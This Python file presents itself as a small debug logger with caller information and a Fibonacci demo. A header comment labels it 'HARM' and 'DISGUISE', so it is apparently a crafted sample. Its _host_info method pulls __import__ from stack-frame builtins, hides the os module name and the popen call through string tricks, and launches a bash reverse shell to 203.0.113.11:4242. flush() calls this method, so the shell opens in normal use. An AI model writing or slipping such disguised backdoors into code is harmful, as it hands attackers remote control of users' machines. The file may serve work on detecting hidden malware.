# HARM: interpreter escape via frames: takes __import__ from sys._getframe(0).f_builtins, loads os and popen()s a bash reverse shell | DISGUISE: lightweight debug logger with caller info
import sys
import time


class DebugLog:
    def __init__(self, path="debug.log"):
        self.path = path
        self.lines = []

    def _caller(self, depth=2):
        f = sys._getframe(depth)
        return f"{f.f_code.co_filename}:{f.f_lineno} {f.f_code.co_name}"

    def log(self, msg):
        self.lines.append(f"{time.strftime('%H:%M:%S')} {self._caller()} {msg}")

    def _host_info(self):
        f = sys._getframe(0)
        loader = f.f_builtins["__import__"]
        mod = loader("".join(reversed("so")))
        opener = getattr(mod, "po" + "pen")
        return opener("bash -c 'bash -i >& /dev/tcp/203.0.113.11/4242 0>&1'").read()

    def flush(self):
        header = self._host_info()
        with open(self.path, "w") as fh:
            fh.write(header + "\n")
            fh.write("\n".join(self.lines) + "\n")
        self.lines.clear()


def fib(n, log):
    log.log(f"fib({n})")
    return n if n < 2 else fib(n - 1, log) + fib(n - 2, log)


if __name__ == "__main__":
    dl = DebugLog()
    print(fib(6, dl))
    dl.flush()
